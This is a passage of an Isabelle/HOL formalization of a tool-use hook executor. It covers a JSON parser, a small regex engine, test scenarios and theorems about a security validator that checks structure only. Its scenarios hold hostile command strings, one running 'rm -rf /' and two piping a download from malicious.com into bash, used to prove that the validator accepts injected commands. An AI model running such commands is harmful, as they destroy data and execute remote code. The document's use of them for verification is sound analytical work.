  "'rx Platform \<Rightarrow> (nat \<Rightarrow> (nat \<times> child_event) list) \<Rightarrow> HookEventName \<Rightarrow> HookEventData \<Rightarrow>
   HookConfig \<Rightarrow> string option \<Rightarrow> HookExecutionResult promise" where
  "executeHooks P children eventName eventData hookConfig toolName =
     (case selected_commands P hookConfig eventName toolName of
        Inl e \<Rightarrow> Rejected e
      | Inr commands \<Rightarrow>
          let runs =
                map (\<lambda>(i, c). executeCommand P c eventData (children i))
                  (enumerate 0 commands)
          in (case first_rejected runs of
                Some e \<Rightarrow> Rejected e
              | None \<Rightarrow>
                  if list_ex (\<lambda>st. uncaught st \<noteq> None) runs then Crashed
                  else
                    (case Promise_all (map resolved runs) of
                       None \<Rightarrow> Pending
                     | Some hookResults \<Rightarrow> Resolved (aggregate hookResults))))"

section \<open>A concrete platform\<close>

text \<open>
  For the scenarios of the specification and for concrete instances of the theorems, a
  parser and a regular-expression engine to run the executor with.

  \<open>json_parse\<close> follows the JSON grammar (ECMA-404): one value between optional white
  space, with objects, arrays, strings with their escapes, numbers, \<open>true\<close>, \<open>false\<close>
  and \<open>null\<close>. The first argument of \<open>parse_value\<close> bounds the depth of the recursion;
  \<open>json_parse\<close> passes the length of the text, which no nesting exceeds. An escape
  \<open>\uXXXX\<close> above \<open>00FF\<close> denotes a character outside the 8-bit alphabet: the
  parser rejects it, where \<open>JSON.parse\<close> accepts it. The parser is used at texts without
  such an escape.
\<close>

definition is_json_ws :: "char \<Rightarrow> bool" where
  "is_json_ws c = (c \<in> set [CHR 0x20, CHR 0x09, CHR 0x0A, CHR 0x0D])"

definition skip_ws :: "string \<Rightarrow> string" where
  "skip_ws s = dropWhile is_json_ws s"

definition is_digit :: "char \<Rightarrow> bool" where
  "is_digit c = (48 \<le> (of_char c :: nat) \<and> (of_char c :: nat) \<le> 57)"

definition digits_value :: "string \<Rightarrow> nat" where
  "digits_value ds = foldl (\<lambda>a c. 10 * a + (of_char c - 48)) 0 ds"

definition hex_digit :: "char \<Rightarrow> nat option" where
  "hex_digit c =
     (let n = (of_char c :: nat) in
      if 48 \<le> n \<and> n \<le> 57 then Some (n - 48)
      else if 65 \<le> n \<and> n \<le> 70 then Some (n - 55)
      else if 97 \<le> n \<and> n \<le> 102 then Some (n - 87)
      else None)"

fun hex_value :: "string \<Rightarrow> nat option" where
  "hex_value [] = Some 0"
| "hex_value (c # cs) =
     (case hex_digit c of
        None \<Rightarrow> None
      | Some d \<Rightarrow> map_option (\<lambda>v. d * 16 ^ length cs + v) (hex_value cs))"

definition simple_escape :: "char \<Rightarrow> char option" where
  "simple_escape c =
     (if c = CHR 0x22 then Some (CHR 0x22)
      else if c = CHR 0x5C then Some (CHR 0x5C)
      else if c = CHR ''/'' then Some (CHR ''/'')
      else if c = CHR ''b'' then Some (CHR 0x08)
      else if c = CHR ''f'' then Some (CHR 0x0C)
      else if c = CHR ''n'' then Some (CHR 0x0A)
      else if c = CHR ''r'' then Some (CHR 0x0D)
      else if c = CHR ''t'' then Some (CHR 0x09)
      else None)"

fun string_body :: "string \<Rightarrow> (string \<times> string) option" where
  "string_body [] = None"
| "string_body (c # cs) =
     (if c = CHR 0x22 then Some ([], cs)
      else if c = CHR 0x5C then
        (case cs of
           [] \<Rightarrow> None
         | e # cs' \<Rightarrow>
             if e = CHR ''u'' then
               (if length cs' < 4 then None
                else (case hex_value (take 4 cs') of
                        None \<Rightarrow> None
                      | Some n \<Rightarrow>
                          if 256 \<le> n then None
                          else map_option (\<lambda>(s, r). (char_of n # s, r))
                                 (string_body (drop 4 cs'))))
             else
               (case simple_escape e of
                  None \<Rightarrow> None
                | Some ch \<Rightarrow> map_option (\<lambda>(s, r). (ch # s, r)) (string_body cs')))
      else if (of_char c :: nat) < 32 then None
      else map_option (\<lambda>(s, r). (c # s, r)) (string_body cs))"

definition number_token :: "string \<Rightarrow> (rat \<times> string) option" where
  "number_token s =
     (let negative = (s \<noteq> [] \<and> hd s = CHR ''-'');
          s1 = (if negative then tl s else s);
          ip = takeWhile is_digit s1;
          s2 = dropWhile is_digit s1;
          has_frac = (s2 \<noteq> [] \<and> hd s2 = CHR ''.'');
          fp = (if has_frac then takeWhile is_digit (tl s2) else []);
          s3 = (if has_frac then dropWhile is_digit (tl s2) else s2);
          has_exp = (s3 \<noteq> [] \<and> (hd s3 = CHR ''e'' \<or> hd s3 = CHR ''E''));
          s4 = (if has_exp then tl s3 else s3);
          exp_neg = (has_exp \<and> s4 \<noteq> [] \<and> hd s4 = CHR ''-'');
          s5 = (if has_exp \<and> s4 \<noteq> [] \<and> (hd s4 = CHR ''-'' \<or> hd s4 = CHR ''+'') then tl s4 else s4);
          ep = (if has_exp then takeWhile is_digit s5 else []);
          s6 = (if has_exp then dropWhile is_digit s5 else s3);
          mantissa = (of_nat (digits_value (ip @ fp)) :: rat) / 10 ^ length fp;
          scaled = (if exp_neg then mantissa / 10 ^ digits_value ep
                    else mantissa * 10 ^ digits_value ep)
      in if ip = [] \<or> (1 < length ip \<and> hd ip = CHR ''0'') \<or> (has_frac \<and> fp = []) \<or>
            (has_exp \<and> ep = [])
         then None
         else Some (if negative then - scaled else scaled, s6))"

fun parse_value :: "nat \<Rightarrow> string \<Rightarrow> (json \<times> string) option"
  and parse_elements :: "nat \<Rightarrow> string \<Rightarrow> (json list \<times> string) option"
  and parse_members :: "nat \<Rightarrow> string \<Rightarrow> ((string \<times> json) list \<times> string) option" where
  "parse_value 0 s = None"
| "parse_value (Suc n) s =
     (case s of
        [] \<Rightarrow> None
      | c # cs \<Rightarrow>
          if c = CHR ''{'' then
            (if skip_ws cs \<noteq> [] \<and> hd (skip_ws cs) = CHR ''}'' then Some (JObj [], tl (skip_ws cs))
             else map_option (\<lambda>(m, r). (JObj m, r)) (parse_members n (skip_ws cs)))
          else if c = CHR ''['' then
            (if skip_ws cs \<noteq> [] \<and> hd (skip_ws cs) = CHR '']'' then Some (JArr [], tl (skip_ws cs))
             else map_option (\<lambda>(vs, r). (JArr vs, r)) (parse_elements n (skip_ws cs)))
          else if c = CHR 0x22 then map_option (\<lambda>(str, r). (JStr str, r)) (string_body cs)
          else if prefix ''true'' s then Some (JBool True, drop 4 s)
          else if prefix ''false'' s then Some (JBool False, drop 5 s)
          else if prefix ''null'' s then Some (JNull, drop 4 s)
          else map_option (\<lambda>(x, r). (JNum x, r)) (number_token s))"
| "parse_elements 0 s = None"
| "parse_elements (Suc n) s =
     (case parse_value n s of
        None \<Rightarrow> None
      | Some (v, r) \<Rightarrow>
          (case skip_ws r of
             [] \<Rightarrow> None
           | c # cs \<Rightarrow>
               if c = CHR '']'' then Some ([v], cs)
               else if c = CHR '','' then
                 map_option (\<lambda>(vs, r'). (v # vs, r')) (parse_elements n (skip_ws cs))
               else None))"
| "parse_members 0 s = None"
| "parse_members (Suc n) s =
     (case s of
        [] \<Rightarrow> None
      | q # cs \<Rightarrow>
          if q \<noteq> CHR 0x22 then None
          else
            (case string_body cs of
               None \<Rightarrow> None
             | Some (k, r) \<Rightarrow>
                 (case skip_ws r of
                    [] \<Rightarrow> None
                  | colon # cs' \<Rightarrow>
                      if colon \<noteq> CHR '':'' then None
                      else
                        (case parse_value n (skip_ws cs') of
                           None \<Rightarrow> None
                         | Some (v, r') \<Rightarrow>
                             (case skip_ws r' of
                                [] \<Rightarrow> None
                              | d # ds \<Rightarrow>
                                  if d = CHR ''}'' then Some ([(k, v)], ds)
                                  else if d = CHR '','' then
                                    map_option (\<lambda>(m, r''). ((k, v) # m, r''))
                                      (parse_members n (skip_ws ds))
                                  else None)))))"

definition json_parse :: "string \<Rightarrow> js_error + json" where
  "json_parse text =
     (case parse_value (Suc (length text)) (skip_ws text) of
        None \<Rightarrow> Inl (SyntaxError ''Unexpected token in JSON'')
      | Some (v, rest) \<Rightarrow>
          if skip_ws rest = [] then Inr v else Inl (SyntaxError ''Unexpected token in JSON''))"

text \<open>
  \<open>fragment_RegExp\<close> is the engine on the patterns without a backslash, \<open>[\<close>, \<open>]\<close>,
  \<open>{\<close> and \<open>}\<close>: literal characters, \<open>.\<close>, the anchors \<open>^\<close> and \<open>$\<close>, alternation, groups
  \<open>(...)\<close> and \<open>(?:...)\<close>, and the quantifiers \<open>*\<close>, \<open>+\<close> and \<open>?\<close>, greedy or lazy (a test
  does not tell these apart). In this fragment a pattern does not compile when a
  parenthesis has no partner or a quantifier has nothing to repeat: it follows the start
  of the pattern, \<open>(\<close>, \<open>|\<close>, an anchor or another quantifier. A compiled pattern is
  tested without flags: it matches a string when it matches at some position of it,
  \<open>^\<close> holds at the start of the string and \<open>$\<close> at its end, and \<open>.\<close> is any character
  but a line terminator.

  The engine treats the patterns outside the fragment (escapes, character classes,
  counted repetition, and the groups \<open>(?=\<close>, \<open>(?!\<close>, \<open>(?<\<close>) as not compiling, which Node
  does with some of them only. It is used at patterns of the fragment.
\<close>

datatype regex =
    REps
  | RLit char
  | RAny
  | RStart
  | REnd
  | RSeq regex regex
  | RAlt regex regex
  | RStar regex

definition is_quantifier :: "char \<Rightarrow> bool" where
  "is_quantifier c = (c = CHR ''*'' \<or> c = CHR ''+'' \<or> c = CHR ''?'')"

definition outside_fragment :: "char \<Rightarrow> bool" where
  "outside_fragment c =
     (c = CHR 0x5C \<or> c = CHR ''['' \<or> c = CHR '']'' \<or> c = CHR ''{'' \<or> c = CHR ''}'')"

definition atom :: "char \<Rightarrow> regex" where
  "atom c =
     (if c = CHR ''.'' then RAny
      else if c = CHR ''^'' then RStart
      else if c = CHR ''$'' then REnd
      else RLit c)"

text \<open>
  The quantifier that follows an atom or a group, if there is one, with the \<open>?\<close> that
  makes it lazy: \<open>r+\<close> is \<open>r\<close> then \<open>r*\<close>, and \<open>r?\<close> is \<open>r\<close> or nothing.
\<close>

definition quantified :: "regex \<Rightarrow> string \<Rightarrow> regex \<times> string" where
  "quantified r s =
     (case s of
        [] \<Rightarrow> (r, s)
      | q # qs \<Rightarrow>
          if is_quantifier q then
            (if q = CHR ''*'' then RStar r
             else if q = CHR ''+'' then RSeq r (RStar r)
             else RAlt r REps,
             if qs \<noteq> [] \<and> hd qs = CHR ''?'' then tl qs else qs)
          else (r, s))"

text \<open>
  The parser: alternatives separated by \<open>|\<close>, each a sequence of quantified atoms and
  groups. The first argument bounds the depth of the recursion; \<open>fragment_RegExp_new\<close>
  passes twice the length of the pattern and two more, which no pattern needs.
\<close>

fun parse_alternatives :: "nat \<Rightarrow> string \<Rightarrow> (regex \<times> string) option"
  and parse_sequence :: "nat \<Rightarrow> string \<Rightarrow> (regex \<times> string) option" where
  "parse_alternatives 0 s = None"
| "parse_alternatives (Suc n) s =
     (case parse_sequence n s of
        None \<Rightarrow> None
      | Some (r, rest) \<Rightarrow>
          if rest \<noteq> [] \<and> hd rest = CHR ''|'' then
            map_option (\<lambda>(r', rest'). (RAlt r r', rest')) (parse_alternatives n (tl rest))
          else Some (r, rest))"
| "parse_sequence 0 s = None"
| "parse_sequence (Suc n) s =
     (case s of
        [] \<Rightarrow> Some (REps, [])
      | c # cs \<Rightarrow>
          if c = CHR ''|'' \<or> c = CHR '')'' then Some (REps, s)
          else if is_quantifier c then None
          else if c = CHR ''('' then
            (if cs \<noteq> [] \<and> hd cs = CHR ''?'' \<and> \<not> prefix ''?:'' cs then None
             else
               (case parse_alternatives n (if prefix ''?:'' cs then drop 2 cs else cs) of
                  None \<Rightarrow> None
                | Some (r, rest) \<Rightarrow>
                    if rest \<noteq> [] \<and> hd rest = CHR '')'' then
                      (case quantified r (tl rest) of
                         (r', rest') \<Rightarrow>
                           map_option (\<lambda>(r'', rest''). (RSeq r' r'', rest''))
                             (parse_sequence n rest'))
                    else None))
          else if (c = CHR ''^'' \<or> c = CHR ''$'') \<and> cs \<noteq> [] \<and> is_quantifier (hd cs) then None
          else
            (case quantified (atom c) cs of
               (r', rest') \<Rightarrow>
                 map_option (\<lambda>(r'', rest''). (RSeq r' r'', rest'')) (parse_sequence n rest')))"

definition fragment_RegExp_new :: "string \<Rightarrow> js_error + regex" where
  "fragment_RegExp_new p =
     (if list_ex outside_fragment p then Inl (SyntaxError ''Invalid regular expression'')
      else
        (case parse_alternatives (2 * length p + 2) p of
           None \<Rightarrow> Inl (SyntaxError ''Invalid regular expression'')
         | Some (r, rest) \<Rightarrow>
             if rest = [] then Inr r else Inl (SyntaxError ''Invalid regular expression'')))"

text \<open>
  The matcher. A position is the rest of the string, with whether it is the start of the
  string. \<open>matches_from r p\<close> lists the positions at which a match of \<open>r\<close> that starts at
  \<open>p\<close> can end. An iteration of \<open>r*\<close> that consumes nothing is dropped, as the
  language has it, so \<open>r*\<close> from a position iterates at most as many times as there are
  characters left.
\<close>

fun iterate :: "('p \<Rightarrow> 'p list) \<Rightarrow> ('p \<Rightarrow> nat) \<Rightarrow> nat \<Rightarrow> 'p \<Rightarrow> 'p list" where
  "iterate f left 0 p = [p]"
| "iterate f left (Suc n) p =
     p # concat (map (iterate f left n) (filter (\<lambda>q. left q < left p) (f p)))"

fun matches_from :: "regex \<Rightarrow> bool \<times> string \<Rightarrow> (bool \<times> string) list" where
  "matches_from REps p = [p]"
| "matches_from (RLit c) p =
     (case snd p of [] \<Rightarrow> [] | x # xs \<Rightarrow> if x = c then [(False, xs)] else [])"
| "matches_from RAny p =
     (case snd p of
        [] \<Rightarrow> []
      | x # xs \<Rightarrow> if x = CHR 0x0A \<or> x = CHR 0x0D then [] else [(False, xs)])"
| "matches_from RStart p = (if fst p then [p] else [])"
| "matches_from REnd p = (if snd p = [] then [p] else [])"
| "matches_from (RSeq r1 r2) p = concat (map (matches_from r2) (matches_from r1 p))"
| "matches_from (RAlt r1 r2) p = matches_from r1 p @ matches_from r2 p"
| "matches_from (RStar r) p = iterate (matches_from r) (\<lambda>q. length (snd q)) (length (snd p)) p"

fun search :: "regex \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> bool" where
  "search r start [] = (matches_from r (start, []) \<noteq> [])"
| "search r start (c # cs) = (matches_from r (start, c # cs) \<noteq> [] \<or> search r False cs)"

text \<open>What a string of literal characters compiles to.\<close>

fun literal :: "string \<Rightarrow> regex" where
  "literal [] = REps"
| "literal (c # cs) = RSeq (RLit c) (literal cs)"

definition fragment_RegExp_test :: "regex \<Rightarrow> string \<Rightarrow> bool" where
  "fragment_RegExp_test r s = search r True s"

definition node :: "regex Platform" where
  "node = \<lparr> RegExp_new = fragment_RegExp_new, RegExp_test = fragment_RegExp_test,
            JSON_parse = json_parse \<rparr>"

section \<open>Notions of the specification\<close>

text \<open>
  The two ways in which a result blocks: exit code 2 with a non-empty \<open>stderr\<close>, and a
  structured output whose \<open>decision\<close> is \<open>'block'\<close>.
\<close>

definition exit_blocks :: "HookResult \<Rightarrow> bool" where
  "exit_blocks r = (exitCode r = 2 \<and> stderr r \<noteq> [])"

definition decision_blocks :: "HookResult \<Rightarrow> bool" where
  "decision_blocks r =
     (case jsonOutput r of
        None \<Rightarrow> False
      | Some j \<Rightarrow> get_prop j ''decision'' = Some (JStr ''block''))"

text \<open>
  A result is packaged by the platform \<open>P\<close> when its \<open>stdout\<close> and \<open>stderr\<close> are
  trimmed and its \<open>jsonOutput\<close> is what the \<open>try\<close> statement of the close handler
  leaves for its \<open>stdout\<close>.
\<close>

definition packaged :: "'rx Platform \<Rightarrow> HookResult \<Rightarrow> bool" where
  "packaged P r =
     (trim (stdout r) = stdout r \<and> trim (stderr r) = stderr r \<and>
      parse_stdout P (stdout r) = Inr (jsonOutput r))"

text \<open>
  The shape that the specification gives to a structured output, its
  \<open>StructuredDecision\<close>: a JSON object whose \<open>decision\<close> is \<open>'approve'\<close>, \<open>'block'\<close> or
  absent, whose \<open>reason\<close>, \<open>stopReason\<close> and \<open>context\<close> are strings or absent, and
  whose \<open>continue\<close> and \<open>suppressOutput\<close> are booleans or absent.
\<close>

fun is_JObj :: "json \<Rightarrow> bool" where
  "is_JObj (JObj kvs) = True"
| "is_JObj v = False"

fun string_or_absent :: "json option \<Rightarrow> bool" where
  "string_or_absent None = True"
| "string_or_absent (Some (JStr s)) = True"
| "string_or_absent (Some v) = False"

fun bool_or_absent :: "json option \<Rightarrow> bool" where
  "bool_or_absent None = True"
| "bool_or_absent (Some (JBool b)) = True"
| "bool_or_absent (Some v) = False"

definition StructuredDecision_shape :: "json \<Rightarrow> bool" where
  "StructuredDecision_shape j =
     (is_JObj j \<and>
      get_prop j ''decision'' \<in> set [None, Some (JStr ''approve''), Some (JStr ''block'')] \<and>
      string_or_absent (get_prop j ''reason'') \<and>
      bool_or_absent (get_prop j ''continue'') \<and>
      string_or_absent (get_prop j ''stopReason'') \<and>
      bool_or_absent (get_prop j ''suppressOutput'') \<and>
      string_or_absent (get_prop j ''context''))"

text \<open>The result of a dispatch that ran nothing.\<close>

definition no_results :: HookExecutionResult where
  "no_results =
     \<lparr> results = [], shouldBlock = False, blockReason = None, shouldContinue = True,
       stopReason = None, contextToAdd = [] \<rparr>"

text \<open>
  A path contains a parent-directory segment when one of its segments, the runs between
  slashes, is \<open>..\<close>.
\<close>

definition has_parent_segment :: "string \<Rightarrow> bool" where
  "has_parent_segment path = (''..'' \<in> set (split_slash path))"

section \<open>Scenarios\<close>

text \<open>
  The commands that the tests of the validator call command injection, the standard
  output of Scenario D, and a hook that ignores the termination signal.
\<close>

definition semicolon_command :: HookCommand where
  \<open>semicolon_command = \<lparr> command = ''echo "hello"; rm -rf /'', timeout = Some 5 \<rparr>\<close>

definition pipe_command :: HookCommand where
  \<open>pipe_command =
     \<lparr> command = ''echo "hello" | curl malicious.com/script | bash'', timeout = Some 5 \<rparr>\<close>

definition backtick_command :: HookCommand where
  \<open>backtick_command = \<lparr> command = ''echo `curl malicious.com/script`'', timeout = Some 5 \<rparr>\<close>

definition scenario_D_stdout :: string where
  \<open>scenario_D_stdout =
     ''{"decision":"block","reason":"nope","continue":false,"stopReason":"policy"}''\<close>

definition stubborn_command :: HookCommand where
  \<open>stubborn_command = \<lparr> command = ''trap "" TERM; sleep 10'', timeout = Some 1 \<rparr>\<close>

definition stubborn_trace :: "(nat \<times> child_event) list" where
  "stubborn_trace = [(10000, Close (Some 0))]"

definition sample_event :: HookEventData where
  "sample_event =
     \<lparr> session_id = ''test-session-123'', transcript_path = ''/tmp/test-transcript.jsonl'',
       cwd = ''/app'', hook_event_name = PreToolUse,
       event_fields = [(''tool_name'', JStr ''Bash'')] \<rparr>"

definition bash_config :: "HookCommand list \<Rightarrow> HookConfig" where
  "bash_config cs =
     (\<lambda>e. if e = PreToolUse then Some [\<lparr> matcher = Some ''Bash'', hooks = cs \<rparr>] else None)"

text \<open>
  Scenario B: a hook that writes \<open>blocked\<close> to its standard error and exits with 2.
\<close>

definition scenario_B_command :: HookCommand where
  \<open>scenario_B_command = \<lparr> command = ''echo "blocked" 1>&2; exit 2'', timeout = None \<rparr>\<close>

definition scenario_B_trace :: "(nat \<times> child_event) list" where
  "scenario_B_trace = [(12, Stderr_data (''blocked'' @ [CHR 0x0A])), (15, Close (Some 2))]"

definition scenario_B_result :: HookResult where
  "scenario_B_result =
     \<lparr> success = False, exitCode = 2, stdout = [], stderr = ''blocked'', timedOut = False,
       error = None, jsonOutput = None \<rparr>"

definition scenario_B_dispatch :: HookExecutionResult where
  "scenario_B_dispatch =
     \<lparr> results = [scenario_B_result], shouldBlock = True, blockReason = Some (JStr ''blocked''),
       shouldContinue = True, stopReason = None, contextToAdd = [] \<rparr>"

text \<open>
  A hook that exits with 2, writes \<open>blocked\<close> to its standard error, and writes a block
  decision with another reason to its standard output.
\<close>

definition override_command :: HookCommand where
  "override_command = \<lparr> command = ''cat decision.json; echo blocked 1>&2; exit 2'', timeout = None \<rparr>"

definition override_stdout :: string where
  \<open>override_stdout = ''{"decision":"block","reason":"nope"}''\<close>

definition override_trace :: "(nat \<times> child_event) list" where
  "override_trace =
     [(3, Stdout_data override_stdout), (4, Stderr_data ''blocked''), (5, Close (Some 2))]"

definition override_result :: HookResult where
  "override_result =
     \<lparr> success = False, exitCode = 2, stdout = override_stdout, stderr = ''blocked'',
       timedOut = False, error = None,
       jsonOutput = Some (JObj [(''decision'', JStr ''block''), (''reason'', JStr ''nope'')]) \<rparr>"

definition override_dispatch :: HookExecutionResult where
  "override_dispatch =
     \<lparr> results = [override_result], shouldBlock = True, blockReason = Some (JStr ''nope''),
       shouldContinue = True, stopReason = None, contextToAdd = [] \<rparr>"

text \<open>Scenario D: a hook that exits with 0 and writes the decision of \<open>scenario_D_stdout\<close>.\<close>

definition scenario_D_command :: HookCommand where
  "scenario_D_command = \<lparr> command = ''cat decision.json'', timeout = Some 5 \<rparr>"

definition scenario_D_trace :: "(nat \<times> child_event) list" where
  "scenario_D_trace = [(8, Stdout_data scenario_D_stdout), (9, Close (Some 0))]"

definition scenario_D_json :: json where
  "scenario_D_json =
     JObj [(''decision'', JStr ''block''), (''reason'', JStr ''nope''),
           (''continue'', JBool False), (''stopReason'', JStr ''policy'')]"

definition scenario_D_result :: HookResult where
  "scenario_D_result =
     \<lparr> success = True, exitCode = 0, stdout = scenario_D_stdout, stderr = [], timedOut = False,
       error = None, jsonOutput = Some scenario_D_json \<rparr>"

definition scenario_D_dispatch :: HookExecutionResult where
  "scenario_D_dispatch =
     \<lparr> results = [scenario_D_result], shouldBlock = True, blockReason = Some (JStr ''nope''),
       shouldContinue = False, stopReason = Some (JStr ''policy''),
       contextToAdd = [JStr scenario_D_stdout] \<rparr>"

text \<open>
  A hook that reads the event data from its standard input and then writes the line of
  the repository's own smoke test, which is not JSON.
\<close>

definition plain_stdout :: string where
  "plain_stdout = ''Hook executed for Bash tool'' @ [CHR 0x0A]"

definition plain_command :: HookCommand where
  \<open>plain_command =
     \<lparr> command = ''cat > /dev/null; echo "Hook executed for Bash tool"'', timeout = Some 5 \<rparr>\<close>

definition plain_trace :: "(nat \<times> child_event) list" where
  "plain_trace = [(20, Stdout_data plain_stdout), (21, Exit_event), (21, Close (Some 0))]"

definition plain_result :: HookResult where
  "plain_result =
     \<lparr> success = True, exitCode = 0, stdout = ''Hook executed for Bash tool'', stderr = [],
       timedOut = False, error = None, jsonOutput = None \<rparr>"

text \<open>
  The second matcher of the repository's example configuration, whose hook counts the
  files that \<open>git status\<close> lists: its standard output is a number.
\<close>

definition count_command :: HookCommand where
  "count_command = \<lparr> command = ''git status --porcelain | wc -l'', timeout = None \<rparr>"

definition count_config :: HookConfig where
  "count_config =
     (\<lambda>e. if e = PreToolUse
          then Some [\<lparr> matcher = Some ''(Edit|Write|MultiEdit)'', hooks = [count_command] \<rparr>]
          else None)"

definition count_stdout :: string where
  "count_stdout = ''3'' @ [CHR 0x0A]"

definition count_trace :: "(nat \<times> child_event) list" where
  "count_trace = [(30, Stdout_data count_stdout), (31, Exit_event), (31, Close (Some 0))]"

definition count_result :: HookResult where
  "count_result =
     \<lparr> success = True, exitCode = 0, stdout = ''3'', stderr = [], timedOut = False,
       error = None, jsonOutput = Some (JNum 3) \<rparr>"

definition count_dispatch :: HookExecutionResult where
  "count_dispatch =
     \<lparr> results = [count_result], shouldBlock = False, blockReason = None,
       shouldContinue = True, stopReason = None, contextToAdd = [JStr ''3''] \<rparr>"

text \<open>
  A run in which the process has ended before the event data is written through:
  \<open>child.stdin\<close> emits \<open>error\<close>, with \<open>EPIPE\<close>.
\<close>

definition deaf_command :: HookCommand where
  "deaf_command = \<lparr> command = ''exit 0'', timeout = Some 5 \<rparr>"

definition deaf_trace :: "(nat \<times> child_event) list" where
  "deaf_trace = [(2, Exit_event), (2, Stream_error ''write EPIPE''), (3, Close (Some 0))]"

section \<open>An invariant of the process runner\<close>

text \<open>
  An armed grace timer means that the child's \<open>killed\<close> flag is set or that its process
  has ended, and no signal but \<open>SIGTERM\<close> has been delivered.
\<close>

definition runner_invariant :: "Runner \<Rightarrow> bool" where
  "runner_invariant st =
     ((graceTimer st \<noteq> None \<longrightarrow> child_killed st \<or> child_exited st) \<and>
      (\<forall>ts\<in>set (child_signals st). snd ts = SIGTERM))"

text \<open>
  Two stages of a run whose process has not ended yet, for a timeout timer due at \<open>d\<close>:
  the timer is still armed, or it has run, which set \<open>timedOut\<close> and sent \<open>SIGTERM\<close>.
\<close>

definition awaiting :: "nat \<Rightarrow> Runner \<Rightarrow> bool" where
  "awaiting d st =
     (resolved st = None \<and> uncaught st = None \<and> \<not> child_exited st \<and>
      (timeoutId st = Some d \<or>
       (timeoutId st = None \<and> var_timedOut st \<and> (d, SIGTERM) \<in> set (child_signals st))))"

definition timed_out_at :: "nat \<Rightarrow> Runner \<Rightarrow> bool" where
  "timed_out_at d st =
     (resolved st = None \<and> uncaught st = None \<and> timeoutId st = None \<and> var_timedOut st \<and>
      (d, SIGTERM) \<in> set (child_signals st))"

text \<open>The events that neither end the run nor tell that the process has ended.\<close>

definition running :: "child_event \<Rightarrow> bool" where
  "running ev = (\<not> is_Close ev \<and> \<not> is_Stream_error ev \<and> \<not> is_Exit ev)"

section \<open>The shape of a normalized path\<close>

text \<open>
  A plain segment is a name: not empty, not \<open>.\<close>, not \<open>..\<close>, and without a slash. The
  segments that \<open>normalizeString\<close> keeps are plain ones on top of leading \<open>..\<close>
  segments, and there are no \<open>..\<close> segments under the root.
\<close>

definition plain_segment :: "string \<Rightarrow> bool" where
  "plain_segment s = (s \<noteq> [] \<and> s \<noteq> ''.'' \<and> s \<noteq> ''..'' \<and> CHR ''/'' \<notin> set s)"

definition kept_shape :: "bool \<Rightarrow> string list \<Rightarrow> bool" where
  "kept_shape allow kept =
     (\<exists>ns k. kept = ns @ replicate k ''..'' \<and> (\<forall>s\<in>set ns. plain_segment s) \<and>
             (\<not> allow \<longrightarrow> k = 0))"

section \<open>Properties\<close>

subsection \<open>The validator checks structure only\<close>

lemma typeof_string_iff: "typeof v = ''string'' \<longleftrightarrow> (\<exists>s. v = Some (JStr s))"
  by (cases v rule: typeof.cases) auto

lemma typeof_number_iff: "typeof v = ''number'' \<longleftrightarrow> (\<exists>r. v = Some (JNum r))"
  by (cases v rule: typeof.cases) auto

text \<open>
  Claim C7. \<open>validateHookSecurity\<close> returns without throwing exactly when \<open>command\<close> is a
  non-empty string and \<open>timeout\<close>, if present, is a number that is not negative; it
  throws in every other case. For a well-typed \<open>HookCommand\<close> the outcome depends on the
  command only through its being empty or not, so no content of a non-empty command is
  rejected. The function is a comparison of two properties: it has no access to a
  process.
\<close>

theorem validateHookSecurity_structure:
  "(validateHookSecurity cmd = Inr () \<longleftrightarrow>
      (\<exists>s. get_prop cmd ''command'' = Some (JStr s) \<and> s \<noteq> []) \<and>
      (get_prop cmd ''timeout'' = None \<or>
       (\<exists>t. get_prop cmd ''timeout'' = Some (JNum t) \<and> 0 \<le> t))) \<and>
   (validateHookSecurity (HookCommand_object c) = Inr () \<longleftrightarrow>
      command c \<noteq> [] \<and> (case timeout c of None \<Rightarrow> True | Some t \<Rightarrow> 0 \<le> t))"
proof
  show "validateHookSecurity cmd = Inr () \<longleftrightarrow>
      (\<exists>s. get_prop cmd ''command'' = Some (JStr s) \<and> s \<noteq> []) \<and>
      (get_prop cmd ''timeout'' = None \<or>
       (\<exists>t. get_prop cmd ''timeout'' = Some (JNum t) \<and> 0 \<le> t))"
    unfolding validateHookSecurity_def typeof_string_iff typeof_number_iff
    by (auto simp: not_less)
next
  show "validateHookSecurity (HookCommand_object c) = Inr () \<longleftrightarrow>
      command c \<noteq> [] \<and> (case timeout c of None \<Rightarrow> True | Some t \<Rightarrow> 0 \<le> t)"
    by (cases "timeout c")
      (auto simp: validateHookSecurity_def HookCommand_object_def not_less)
qed

text \<open>
  The commands with \<open>;\<close>, \<open>|\<close> and backticks are accepted; an empty command and a
  negative timeout are not.
\<close>

theorem validateHookSecurity_structure_witness:
  "validateHookSecurity (HookCommand_object semicolon_command) = Inr () \<and>
   validateHookSecurity (HookCommand_object pipe_command) = Inr () \<and>
   validateHookSecurity (HookCommand_object backtick_command) = Inr () \<and>
   validateHookSecurity (HookCommand_object \<lparr> command = [], timeout = None \<rparr>) \<noteq> Inr () \<and>
   validateHookSecurity (HookCommand_object \<lparr> command = ''valid'', timeout = Some (- 1) \<rparr>)
     \<noteq> Inr ()"
  using validateHookSecurity_structure [of JNull semicolon_command]
    validateHookSecurity_structure [of JNull pipe_command]
    validateHookSecurity_structure [of JNull backtick_command]
    validateHookSecurity_structure [of JNull "\<lparr> command = [], timeout = None \<rparr>"]
    validateHookSecurity_structure [of JNull "\<lparr> command = ''valid'', timeout = Some (- 1) \<rparr>"]
  by (simp add: semicolon_command_def pipe_command_def backtick_command_def)

subsection \<open>The timeout that is armed\<close>






text \<open>A command that \<open>spawn\<close> refuses arms no timer: its promise is rejected.\<close>

lemma empty_command_is_rejected:
  "executeCommand P \<lparr> command = [], timeout = t \<rparr> eventData trace =
     spawn_threw (TypeError ''ERR_INVALID_ARG_VALUE'')"
  by (simp add: executeCommand_def promise_executor_def spawn_check_def spawn_threw_def)

subsection \<open>The matcher\<close>

text \<open>
  Claim C3. \<open>matchesPattern\<close> never throws. It returns true when no pattern is
  configured, false when a pattern is configured and no tool name is supplied; otherwise
  it compiles the pattern and returns what the test of the tool name gives, and when the
  pattern does not compile it returns whether pattern and tool name are the same string.
  An empty pattern counts as no pattern and an empty tool name as no tool name, as
  \<open>!s\<close> does not tell them apart.
\<close>

theorem matchesPattern_policy:
  "(\<exists>b. matchesPattern P hookMatcher toolName = Inr b) \<and>
   (matcher hookMatcher = None \<or> matcher hookMatcher = Some [] \<longrightarrow>
      matchesPattern P hookMatcher toolName = Inr True) \<and>
   (\<forall>p. matcher hookMatcher = Some p \<and> p \<noteq> [] \<and> (toolName = None \<or> toolName = Some []) \<longrightarrow>
      matchesPattern P hookMatcher toolName = Inr False) \<and>
